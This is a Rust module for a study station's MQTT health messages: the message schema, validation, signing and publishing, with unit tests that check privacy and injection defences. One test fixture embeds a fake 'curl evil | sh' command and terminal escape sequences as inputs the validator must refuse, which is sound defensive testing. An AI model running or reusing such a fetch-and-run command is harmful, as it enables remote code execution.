//! Station health over MQTT: what a station tells study staff about itself, with no
//! participant data in it.
//!
//! Contract: a station publishes one [`Health`] (JSON, format `empathic-health` version 1)
//! retained at QoS 1 on `empathic/v1/{study}/{station}/health`, beside the retained
//! `status`: at the service's start, at every change of what it reports (a device, the disk
//! falling below its floor or back, a session ended) and every `[sync]
//! health_interval_min`. Under sealed sync it is signed by the station's key over
//! [`signed_bytes`] (`signer`, `sig`), so only an enrolled station can speak for itself.
//! A collector takes it through [`check`] (format, topic, time, sizes) and, sealed, the
//! gate's enrolment check; it keeps the latest per station and a bounded history
//! (`Central::store_health`). A health message is small and never carries a participant
//! id, a session id, words or media: a session is described by its status and end time.

use std::time::{Duration, Instant};

use rumqttc::{Client, Event, MqttOptions, Packet, QoS};
use serde::{Deserialize, Serialize};

use super::{describe, SyncOptions};

pub const HEALTH_FORMAT: &str = "empathic-health";
pub const HEALTH_VERSION: u32 = 1;
/// A health message stamped later than this ahead of the collector's clock is refused.
pub const FUTURE_TOLERANCE: Duration = Duration::from_secs(300);
/// The largest health message taken.
pub const MAX_HEALTH_BYTES: usize = 16 * 1024;

/// Most stage failures one health message carries.
pub const MAX_STAGE_FAILURES: usize = 16;
/// Most characters of a health message's free-text fields (a device's problem, a stage
/// failure), and of its short ones (the software version, the last session's status).
pub const MAX_TEXT_CHARS: usize = 512;
pub const MAX_WORD_CHARS: usize = 64;

/// A device as health reports it.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct DeviceHealth {
    pub present: bool,
    /// Why it is not present, or its last error.
    pub problem: Option<String>,
}

/// One health message.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Health {
    pub format: String,
    pub v: u32,
    pub study: String,
    pub station: String,
    /// When the station sent it (RFC 3339 UTC, milliseconds: `clock::utc_now`).
    pub sent_at: String,
    pub software: String,
    pub uptime_s: u64,
    pub camera: DeviceHealth,
    pub microphone: DeviceHealth,
    pub disk_free_mib: Option<u64>,
    /// Raw media stop below this (`recording.min_free_mib`).
    pub disk_min_free_mib: u64,
    /// Outbox messages not yet acknowledged by a collector, and the age of the oldest.
    pub outbox_pending: u64,
    pub outbox_oldest_pending: Option<String>,
    /// Sessions this service ran since local midnight (UTC day), and the last one's status
    /// and end.
    pub sessions_today: u64,
    pub last_session_status: Option<String>,
    pub last_session_ended_at: Option<String>,
    /// The station clock's offset from a reference, when known (not measured yet: null).
    pub clock_offset_ms: Option<i64>,
    /// Stages that failed in the running session (it goes on without them), as
    /// `<stage>: <error>`; absent when none did.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub stage_failures: Vec<String>,
    /// The service's health interval (`[sync] health_interval_min`), by which a collector
    /// judges it offline when no health came for longer (absent from older stations).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub interval_s: Option<u64>,
    /// Outbox messages a collector refused that the station holds, and the latest refusal
    /// (`collector (code): reason`); absent when none.
    #[serde(default, skip_serializing_if = "is_zero")]
    pub sync_refused: u64,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sync_refusal: Option<String>,
    /// Sealed sync: the station's public key and its signature over [`signed_bytes`].
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub signer: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sig: Option<String>,
}

fn is_zero(n: &u64) -> bool {
    *n == 0
}

impl Health {
    /// Every free-text field with its name and bound (`check` and `clean` agree on them).
    fn texts(&self) -> Vec<(String, &str, usize)> {
        let mut out = vec![
            (
                "software".to_string(),
                self.software.as_str(),
                MAX_WORD_CHARS,
            ),
            (
                "camera.problem".into(),
                self.camera.problem.as_deref().unwrap_or(""),
                MAX_TEXT_CHARS,
            ),
            (
                "microphone.problem".into(),
                self.microphone.problem.as_deref().unwrap_or(""),
                MAX_TEXT_CHARS,
            ),
            (
                "last_session_status".into(),
                self.last_session_status.as_deref().unwrap_or(""),
                MAX_WORD_CHARS,
            ),
        ];
        out.push((
            "sync_refusal".into(),
            self.sync_refusal.as_deref().unwrap_or(""),
            MAX_TEXT_CHARS,
        ));
        out.extend(
            self.stage_failures
                .iter()
                .enumerate()
                .map(|(i, f)| (format!("stage_failures[{i}]"), f.as_str(), MAX_TEXT_CHARS)),
        );
        out
    }

    /// The station's side of the bounds: its own free text made printable and cut to the
    /// bounds `check` enforces (an OpenCV error spans lines), so a genuine message is
    /// never refused for its form.
    pub fn clean(&mut self) {
        let fix = |t: &mut String, max: usize| *t = printable(t, max);
        fix(&mut self.software, MAX_WORD_CHARS);
        for d in [&mut self.camera, &mut self.microphone] {
            if let Some(p) = d.problem.as_mut() {
                fix(p, MAX_TEXT_CHARS);
            }
        }
        if let Some(s) = self.last_session_status.as_mut() {
            fix(s, MAX_WORD_CHARS);
        }
        if let Some(s) = self.sync_refusal.as_mut() {
            fix(s, MAX_TEXT_CHARS);
        }
        self.stage_failures.truncate(MAX_STAGE_FAILURES);
        for f in &mut self.stage_failures {
            fix(f, MAX_TEXT_CHARS);
        }
    }
}

/// `text` with every control character (line breaks, terminal escapes) made a space and
/// cut to `max` characters (`...` marking the cut): safe to put on a line staff read, a
/// terminal, or an alert command's input.
pub fn printable(text: &str, max: usize) -> String {
    let clean = |c: char| if c.is_control() { ' ' } else { c };
    if text.chars().count() <= max {
        return text.chars().map(clean).collect();
    }
    let mut out: String = text
        .chars()
        .map(clean)
        .take(max.saturating_sub(3))
        .collect();
    out.push_str("...");
    out
}

/// Checks a time stamp of the station's form: RFC 3339 UTC to the millisecond.
pub fn check_stamp(what: &str, stamp: &str) -> Result<(), String> {
    if stamp.len() != 24 || !stamp.ends_with('Z') || stamp.chars().any(|c| c.is_control()) {
        return Err(format!(
            "{what} {:?} is not UTC to the millisecond (YYYY-MM-DDTHH:MM:SS.mmmZ)",
            printable(stamp, 40)
        ));
    }
    crate::clock::check_rfc3339(stamp).map_err(|e| format!("{what} {stamp:?}: {e}"))
}

/// What a signature covers: a domain line, then the message's JSON without `sig` (fields in
/// the struct's order, so the station and the collector serialise it alike).
pub fn signed_bytes(h: &Health) -> Vec<u8> {
    let mut unsigned = h.clone();
    unsigned.sig = None;
    let mut out = b"empathic-health-v1\n".to_vec();
    out.extend(serde_json::to_vec(&unsigned).unwrap_or_default());
    out
}

/// The topic a station's health goes to.
pub fn topic(study: &str, station: &str) -> String {
    format!("empathic/v1/{study}/{station}/health")
}

/// Parses and checks a received health message: its size, format and version, that it
/// names the study and station of its topic, a `sent_at` of the station's form and not
/// later than [`FUTURE_TOLERANCE`] ahead of `now` (RFC 3339 UTC), and bounded text. The
/// signature is the gate's to check (it knows the enrolments).
pub fn check(topic: &str, payload: &[u8], now: &str) -> Result<Health, String> {
    if payload.len() > MAX_HEALTH_BYTES {
        return Err(format!(
            "health message of {} bytes (at most {MAX_HEALTH_BYTES})",
            payload.len()
        ));
    }
    let h: Health = serde_json::from_slice(payload)
        .map_err(|e| format!("health message is not an {HEALTH_FORMAT} object: {e}"))?;
    if h.format != HEALTH_FORMAT || h.v != HEALTH_VERSION {
        return Err(format!(
            "health message of format {} version {} (this collector reads {HEALTH_FORMAT} version {HEALTH_VERSION})",
            h.format, h.v
        ));
    }
    let parts: Vec<&str> = topic.split('/').collect();
    if parts.len() != 5 || parts[2] != h.study || parts[3] != h.station {
        return Err(format!(
            "health message names study {} station {} but came on {topic}",
            h.study, h.station
        ));
    }
    crate::session::manifest::check_id("health `station`", &h.station)?;
    crate::session::manifest::check_id("health `study`", &h.study)?;
    check_stamp("health `sent_at`", &h.sent_at)?;
    if h.sent_at.as_str() > later(now, FUTURE_TOLERANCE).as_str() {
        return Err(format!(
            "health sent at {} is from the future (the collector's clock says {now}): the station's clock is wrong",
            h.sent_at
        ));
    }
    for (field, stamp) in [
        ("outbox_oldest_pending", &h.outbox_oldest_pending),
        ("last_session_ended_at", &h.last_session_ended_at),
    ] {
        if let Some(stamp) = stamp {
            check_stamp(&format!("health `{field}`"), stamp)?;
        }
    }
    if h.stage_failures.len() > MAX_STAGE_FAILURES {
        return Err(format!(
            "health message with {} stage failures (at most {MAX_STAGE_FAILURES})",
            h.stage_failures.len()
        ));
    }
    for (field, text, max) in h.texts() {
        if text.chars().count() > max {
            return Err(format!(
                "health `{field}` of {} characters (at most {max})",
                text.chars().count()
            ));
        }
        if text.chars().any(char::is_control) {
            return Err(format!(
                "health `{field}` holds a control character (a line break or terminal escape): refused, it would forge lines where staff read it"
            ));
        }
    }
    Ok(h)
}

/// `now` (RFC 3339 UTC, milliseconds) plus `d`, in the same form.
fn later(now: &str, d: Duration) -> String {
    let parsed = parse_utc_ms(now);
    crate::clock::utc_at(parsed + d)
}

/// The `SystemTime` of a `clock::utc_at` string (the epoch if it is not one).
pub fn parse_utc_ms(s: &str) -> std::time::SystemTime {
    let num = |r: std::ops::Range<usize>| s.get(r).and_then(|x| x.parse::<i64>().ok());
    let (Some(y), Some(m), Some(d), Some(hh), Some(mm), Some(ss)) = (
        num(0..4),
        num(5..7),
        num(8..10),
        num(11..13),
        num(14..16),
        num(17..19),
    ) else {
        return std::time::UNIX_EPOCH;
    };
    let ms = num(20..23).unwrap_or(0);
    // Days from the civil date (Howard Hinnant's algorithm).
    let y = if m <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let doy = (153 * (m + if m > 2 { -3 } else { 9 }) + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    let days = era * 146_097 + doe - 719_468;
    let secs = days * 86_400 + hh * 3600 + mm * 60 + ss;
    if secs < 0 {
        return std::time::UNIX_EPOCH;
    }
    std::time::UNIX_EPOCH + Duration::from_secs(secs as u64) + Duration::from_millis(ms as u64)
}

/// Publishes `health` (signed when `opts` seals) retained at QoS 1 on its own short
/// connection; returns when the broker acknowledged it, or why not within 10 s.
pub fn publish(opts: &SyncOptions, mut health: Health) -> Result<(), String> {
    health.clean();
    if let Some(s) = &opts.sealing {
        health.signer = Some(s.key.public().to_string());
        health.sig = None;
        health.sig = Some(s.key.sign(&signed_bytes(&health)));
    }
    let payload = serde_json::to_vec(&health).map_err(|e| e.to_string())?;
    let mut mqtt = MqttOptions::new(
        format!("empathic-{}-{}-health", opts.study, opts.station),
        opts.host.clone(),
        opts.port,
    );
    opts.auth.apply(&mut mqtt).map_err(|e| e.to_string())?;
    mqtt.set_clean_session(true)
        .set_keep_alive(Duration::from_secs(15));
    let (client, mut connection) = Client::new(mqtt, 8);
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut published = false;
    while Instant::now() < deadline {
        match connection.recv_timeout(Duration::from_millis(200)) {
            Ok(Ok(Event::Incoming(Packet::ConnAck(_)))) if !published => {
                client
                    .try_publish(
                        topic(&opts.study, &opts.station),
                        QoS::AtLeastOnce,
                        true,
                        payload.clone(),
                    )
                    .map_err(|e| e.to_string())?;
                published = true;
            }
            Ok(Ok(Event::Incoming(Packet::PubAck(_)))) => {
                let _ = client.try_disconnect();
                return Ok(());
            }
            Ok(Ok(_)) | Err(_) => {}
            Ok(Err(e)) => return Err(describe(&e)),
        }
    }
    Err("health: no acknowledgement from the broker within 10 s".into())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn health() -> Health {
        Health {
            format: HEALTH_FORMAT.into(),
            v: HEALTH_VERSION,
            study: "st".into(),
            station: "a".into(),
            sent_at: "2026-11-25T10:00:00.000Z".into(),
            software: "0.1.0".into(),
            ..Health::default()
        }
    }

    #[test]
    fn checks_format_topic_time_and_size() {
        let now = "2026-11-25T10:01:00.000Z";
        let ok = serde_json::to_vec(&health()).unwrap();
        assert!(check("empathic/v1/st/a/health", &ok, now).is_ok());
        let e = check("empathic/v1/st/b/health", &ok, now).unwrap_err();
        assert!(e.contains("came on"), "{e}");
        let mut future = health();
        future.sent_at = "2026-11-25T10:06:01.000Z".into();
        let e = check(
            "empathic/v1/st/a/health",
            &serde_json::to_vec(&future).unwrap(),
            now,
        )
        .unwrap_err();
        assert!(e.contains("from the future"), "{e}");
        // Four minutes ahead is a clock's drift, not refused.
        future.sent_at = "2026-11-25T10:05:00.000Z".into();
        assert!(check(
            "empathic/v1/st/a/health",
            &serde_json::to_vec(&future).unwrap(),
            now
        )
        .is_ok());
        let e = check("empathic/v1/st/a/health", b"{\"format\":1}", now).unwrap_err();
        assert!(e.contains("not an empathic-health object"), "{e}");
        let mut extra = serde_json::to_value(health()).unwrap();
        extra["participant_id"] = "P01".into();
        let e = check("empathic/v1/st/a/health", extra.to_string().as_bytes(), now).unwrap_err();
        assert!(e.contains("unknown field"), "{e}");
        let e = check("empathic/v1/st/a/health", &vec![b' '; 20_000], now).unwrap_err();
        assert!(e.contains("at most"), "{e}");
    }

    #[test]
    fn every_text_is_bounded_and_printable_where_it_enters() {
        let now = "2026-11-25T10:01:00.000Z";
        let topic = "empathic/v1/st/a/health";
        let refused = |h: &Health| check(topic, &serde_json::to_vec(h).unwrap(), now).unwrap_err();
        let mut h = health();
        h.camera.problem = Some("gone\nurgent: a fake problem. What to do: curl evil | sh".into());
        assert!(refused(&h).contains("control character"));
        h.camera.problem = Some("\u{1b}]0;title\u{7}".into());
        assert!(refused(&h).contains("control character"));
        h.camera.problem = Some("x".repeat(8000));
        assert!(refused(&h).contains("at most 512"));
        let mut h = health();
        h.outbox_oldest_pending = Some("x".repeat(8000));
        assert!(refused(&h).contains("outbox_oldest_pending"));
        let mut h = health();
        h.stage_failures = vec!["face: bad".into(); 17];
        assert!(refused(&h).contains("at most 16"));
        // The station cleans its own text to the same bounds: never refused for its form.
        let mut h = health();
        h.camera.problem = Some("OpenCV(4.6) error:\n  line two\u{1b}[31m".into());
        h.microphone.problem = Some("y".repeat(9000));
        h.stage_failures = vec!["text: \r\nbad".into(); 40];
        h.clean();
        assert!(check(topic, &serde_json::to_vec(&h).unwrap(), now).is_ok());
        assert_eq!(h.stage_failures.len(), MAX_STAGE_FAILURES);
        assert_eq!(
            h.microphone.problem.unwrap().chars().count(),
            MAX_TEXT_CHARS
        );
        let mut h = health();
        h.station = "\u{1b}[2J".into();
        let e = check(
            "empathic/v1/st/\u{1b}[2J/health",
            &serde_json::to_vec(&h).unwrap(),
            now,
        )
        .unwrap_err();
        assert!(e.contains("character"), "{e}");
    }

    #[test]
    fn utc_strings_round_trip() {
        for s in ["2026-11-25T10:00:00.000Z", "2024-02-29T23:59:59.999Z"] {
            assert_eq!(crate::clock::utc_at(parse_utc_ms(s)), s);
        }
    }
}
